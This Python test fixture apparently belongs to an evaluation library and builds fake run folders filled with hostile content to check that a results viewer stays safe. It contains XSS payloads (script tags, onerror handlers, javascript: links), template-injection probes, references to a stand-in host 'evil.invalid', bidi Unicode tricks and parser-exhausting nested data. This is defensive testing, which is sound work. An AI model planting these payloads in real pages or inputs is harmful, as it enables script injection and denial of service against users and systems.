"""Runs in which everything that a model, a data set or another program could write is meant to do harm.

A page is safe when a browser that opened it shows no dialog, has no `CANARY` in its window, asked no other host for
anything, and complained of nothing that its policy had to stop.
"""

from __future__ import annotations

import base64
import json
import struct
from pathlib import Path
from typing import Any

import msgspec
import polars as pl

import howgood as hg
from howgood.calls.likelihood import WholeText
from howgood.core.types import Instance
from howgood.inputs.base import Inputs
from howgood.interpret.estimate import Perplexity
from howgood.outputs.likelihood import Surprise

CANARY = "__canary"
BITE = f"window.{CANARY}=1;alert(1)"
FOREIGN = "https://evil.invalid/x"

SCRIPTS = f"""# Title <script>{BITE}</script>
<script src="{FOREIGN}.js"></script><script type=module>import("{FOREIGN}")</script>
</script><script>{BITE}</script></pre></textarea></style></title></select></template><img src=x onerror="{BITE}">
<img src=x onerror={BITE}><svg onload="{BITE}"><svg><script>{BITE}</script></svg>
<svg><a xlink:href="javascript:{BITE}">
<math><mtext><table><mglyph><style><img src=x onerror="{BITE}"></style></mglyph></table></mtext></math>
<iframe src="javascript:{BITE}"></iframe><iframe srcdoc="<script>{BITE}</script>"></iframe><object data="{FOREIGN}">
<body onload="{BITE}"><details open ontoggle="{BITE}"><input autofocus onfocus="{BITE}">
<video><source onerror="{BITE}">
<a href="javascript:{BITE}" id=message>x</a><form action="{FOREIGN}">
<button formaction="javascript:{BITE}">press</button>
<link rel=stylesheet href="{FOREIGN}.css"><style>@import "{FOREIGN}.css";*{{display:none}}</style>
<base href="{FOREIGN}">
<meta http-equiv=refresh content="0;url={FOREIGN}"><div style="background:url({FOREIGN})" onclick="{BITE}">
[a](javascript:{BITE}) [b](data:text/html,<script>{BITE}</script>) ![c]({FOREIGN}.png) <{FOREIGN}> [d]({FOREIGN} "t")
[e](<javascript:{BITE}>) [f]: {FOREIGN} ![g](data:image/svg+xml,<svg onload="{BITE}">) **bold** `code`
"'><img src=x onerror={BITE}>
{{{{ 7*7 }}}} {{% import os %}} ${{7*7}} <%= 7*7 %> {{{{ cycler.__init__.__globals__ }}}}
"""
UNSEEN = (
    "pay\u202etxt.exe \u2066\u2069 zero\u200bwidth\ufeff null\x00 esc\x1b[31m bell\x07 c1\x9b "
    "tag\U000e0041 \u2028\u2029 Z" + ("\u0301" * 3_000)
)
FORMULAS = (
    r"**x** $\def\a{\a\a}\a$ $\newcommand{\x}{\x\x}\x$ $\let\a\b$ "
    + f"$\\href{{javascript:{BITE}}}{{x}}$ $\\text{{<script>{BITE}</script>}}$ "
    + f"$\\style{{background:url({FOREIGN})}}{{x}}$ "
    + f"$\\class{{bar}}{{x}}$ $\\unicode{{<img src=x onerror={BITE}>}}$ $\\color{{red;}}x$ $\\hspace{{99999em}}x$ "
    + "$x</math><script>alert(1)</script>$ "
    + "$"
    + "{" * 900
    + "}" * 900
    + "$ $"
    + r"\sqrt" * 300
    + " x$ $"
    + r"\frac{1}{" * 150
    + "}" * 150
    + "$"
)
BRACES = "**x** $" + "{" * 100_000 + "}" * 100_000 + "$"
QUOTES = "# x\n" + ">" * 10_000 + " deep\n" + "[" * 10_000 + "*a **a " * 1_500 + "`" * 3_000 + "- " * 5_000
LINE = "A" * 2_500_000 + "<script>" + "\u202e" * 1_000 + "B" * 2_500_000
DEEP = "[" * 10_000 + "]" * 10_000
DEEPER = '{"a":' * 10_000 + "1" + "}" * 10_000
TABLE = "| a | b |\n|---|---|\n" + "| x | y |\n" * 1_200
LABEL = f'"><img src=x onerror={BITE}>\u202e</title><script>{BITE}</script>' + "W" * 300
FOLDER = "2026-11-29T00-00-00_\"'><img src=x onerror=alert(1)>_#?&%2e%2e%00 {}_0000".format("é\u202e")


def svg() -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{BITE}"><script>{BITE}</script></svg>'.encode()


def png(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + struct.pack(">II", width, height) + b"\x08\x06\x00\x00\x00broken"


def _message(role: str, content: Any, **more: Any) -> dict[str, Any]:
    return {"role": role, "content": content, **more}


def _image(data: bytes, kind: str = "image/png") -> dict[str, str]:
    return {"type": "image", "data": base64.b64encode(data).decode(), "media_type": kind}


PICTURES = json.dumps(
    [
        _message(
            "user",
            [
                {"type": "text", "text": SCRIPTS},
                _image(svg(), "image/svg+xml"),
                _image(svg(), f'image/png" onerror="{BITE}'),
                _image(png(200_000, 200_000)),
                _image(png(8, 8)),
                _image(b"\xff\xd8\xff\xe0" + b"\xff" * 50, "image/jpeg"),
                _image(b"GIF89a", "image/gif"),
                _image(b"RIFF____WEBPVP8X", "image/webp"),
                *[_image(png(1, 1))] * 40,
            ],
        )
    ],
    separators=(",", ":"),
)
TOOLS = json.dumps(
    [
        _message("assistant", SCRIPTS, tool_calls=[{"id": LABEL, "name": LABEL, "arguments": DEEPER}] * 30),
        _message("tool", UNSEEN.replace("\x00", ""), tool_call_id=LABEL),
        *[_message("assistant", "again")] * 400,
    ],
    separators=(",", ":"),
)
REPLY = {"text": SCRIPTS, "cost": None}
VERDICTS = json.dumps(
    [{"judge": LABEL, "prompt": SCRIPTS, "reply": REPLY, "values": {LABEL: 1.0}, "first": True}]
    + [{"judge": "j", "prompt": json.loads(PICTURES), "reply": {"text": FORMULAS}, "problem": LABEL, "first": False}]
    * 40
)

ROWS: list[dict[str, Any]] = [
    {"text": SCRIPTS, "answer": "bold", "prompt": SCRIPTS, "input": SCRIPTS, "targets": [SCRIPTS, LABEL],
     "explanation": SCRIPTS, "reasoning": SCRIPTS, "parts": json.dumps([[LABEL, 1.0]] * 500), "stratum": LABEL},
    {"text": LINE, "answer": "B", "prompt": LINE, "reasoning": LINE, "targets": [LINE], "explanation": LINE},
    {"text": UNSEEN, "answer": UNSEEN[:40], "prompt": UNSEEN, "input": UNSEEN, "targets": [UNSEEN], "stratum": UNSEEN},
    {"text": FORMULAS, "answer": "x", "reasoning": BRACES, "targets": [FORMULAS], "input": FORMULAS},
    {"text": QUOTES, "answer": "deep", "reasoning": TABLE, "targets": [QUOTES], "input": TABLE},
    {"metadata": DEEP, "verdicts": DEEP, "transcript": '[{"role":' + DEEP, "parts": DEEPER, "text": DEEP,
     "prompt": '[{"role":"user","content":' + DEEPER + "}]", "input": '[{"role":"user","content":' + DEEP + "}]"},
    {"choices": [SCRIPTS, LABEL, *(f"choice {n}" for n in range(20_000))], "gold": [19_999, 70_000, -1], "text": "A",
     "answer": "A", "targets": None},
    {"metadata": '{"train": [', "verdicts": '[{"judge": 1}', "transcript": '[{"role":"\\ud800","content":3}]',
     "parts": '[["a"]]', "prompt": '[{"role":"user","content":"\\ud800"}]', "text": "\ufffe", "targets": []},
    {"text": None, "prompt": PICTURES, "transcript": TOOLS, "verdicts": VERDICTS, "metadata": DEEPER,
     "answer_tokens": [{"text": text, "logprob": x} for text, x in zip(
         [SCRIPTS, UNSEEN, "\n", *["t"] * 30_000], [float("nan"), float("-inf"), 5.0, *[-1e9] * 30_000], strict=True)],
     "error": SCRIPTS, "outcome": "failed"},
    {"metadata": json.dumps({"train": [{"input": [[0] * 30] * 30, "output": [[1]]}] * 400, "test": [[2]]}),
     "attempts": ["[[1]]", *[SCRIPTS] * 3_000], "text": SCRIPTS, "targets": ["[[9]]"]},
]  # fmt: skip
"""Cells of the runs' trials, a row each; what is not named stays as it was."""


def make_hostile(folder: Path) -> list[Path]:
    """Two runs of the same instances whose trials, record, tags, notes and labels are hostile, and one whose texts were
    scored whole: their folders. Beside them stand folders that only look like runs."""
    made = []
    for number, record in enumerate((DEEP, DEEPER, "", '{"id": 1}', '{"id": "x"}', "\x00")):
        (folder / f"no run {number}").mkdir()
        (folder / f"no run {number}" / "run.json").write_text(record)
    for number, name in enumerate((FOLDER, "2026-11-29T00-00-01_hostile_beside_0001")):
        run = hg.run("quickstart-questions", model="reference/uniform", folder=folder, limit=len(ROWS))
        path = folder / name
        run.path.rename(path)
        frame = pl.read_parquet(path / "trials.parquet", glob=False)
        turned = ROWS if number == 0 else [*ROWS[1:], ROWS[0]]
        rows = [{**row, **cells} for row, cells in zip(frame.iter_rows(named=True), turned, strict=True)]
        pl.DataFrame(rows, schema=frame.schema).write_parquet(path / "trials.parquet")
        record = json.loads((path / "run.json").read_bytes())
        record |= {"id": name, "message": SCRIPTS, "groups": [{**x, "group": LABEL} for x in record["groups"]]}
        record["system"]["name"] = LABEL + str(number)
        record["system"]["model"] |= {"chat_template": LABEL, "note": SCRIPTS}
        record["rules"]["benchmark"] = record["benchmark"] = LABEL
        record["rules"]["call"][LABEL] = SCRIPTS
        record["rules"]["outputs"]["prompt"] = f"{number}{SCRIPTS}"
        record["card"] |= {"title": LABEL, "cite": f"javascript:{BITE}", "flaws": [SCRIPTS], "human_source": SCRIPTS}
        record["environment"]["host"] = SCRIPTS
        (path / "run.json").write_text(json.dumps(record))
        (path / "tags.json").write_text(DEEP if number else json.dumps([LABEL, "<b>", "javascript:alert(1)"]))
        ids = frame["id"].to_list()
        note = {"id": ids[0], "epoch": 0, "author": LABEL, "text": SCRIPTS, "made": LABEL}
        lines = [{**note, "kind": kind} for kind in ("flag", "comment", "correction") for _ in range(300)]
        (path / "notes.jsonl").write_text("\n".join([*map(json.dumps, lines), DEEP, '{"id": "x']))
        label = {"id": ids[0], "epoch": 0, "annotator": LABEL, "value": 1.0, "made": LABEL}
        (path / "labels.jsonl").write_text(f"{json.dumps(label)}\n{DEEPER}\n")
        made.append(path)
    texts = [text.replace("\x00", "") for text in (SCRIPTS, UNSEEN[:60], FORMULAS[:900])]
    items = [Instance(LABEL + str(number), text) for number, text in enumerate(texts)]
    whole = hg.Benchmark(Inputs.of(items), WholeText(), Surprise(), Perplexity())
    made.append(hg.run(whole, model="reference/uniform", folder=folder).path)
    return made


def trials(path: Path) -> list[tuple[int, int]]:
    """Where the trials of a run are."""
    return pl.read_parquet(path / "trials.parquet", columns=["index", "epoch"], glob=False).rows()


assert msgspec.json.decode(PICTURES)  # what is meant to be read as a conversation can be
assert msgspec.json.decode(TOOLS)
